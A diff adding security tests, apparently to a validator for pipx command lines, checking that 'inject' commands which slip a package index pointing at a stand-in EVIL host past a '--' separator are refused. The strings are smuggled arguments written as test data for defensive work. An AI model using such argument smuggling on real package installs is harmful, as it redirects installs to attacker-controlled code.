@@ -159,3 +159,26 @@ describe('red team 46b R46b-1: a refusal quotes no credential', () => {
     expect(line).not.toContain('SECRETxyz0123');
   });
 });
+
+describe('red team 47b: `--` read as pipx on Python 3.11 reads it', () => {
+  it.each([
+    `inject -- --index-url=${EVIL} black requests`,
+    `inject -- -i${EVIL} black requests`,
+    `inject -- '--pip-args=--extra-index-url ${EVIL}' black requests`,
+    `inject -- black requests --index-url=${EVIL}`
+  ])('R47b-1: %s is refused (3.11 reads the index, 3.12.8+ a name)', text => {
+    expect(read(text)?.problems.length).toBeGreaterThan(0);
+  });
+
+  it('R47b-3: runpip hands pip the words after VENV --, without the --', () => {
+    expect(
+      parsePipx(shellWords('runpip black -- install requests'))
+    ).toMatchObject({
+      positionals: ['black'],
+      remainder: ['install', 'requests']
+    });
+    expect(read('runpip black -- install requests')?.problems ?? []).toEqual(
+      []
+    );
+  });
+});
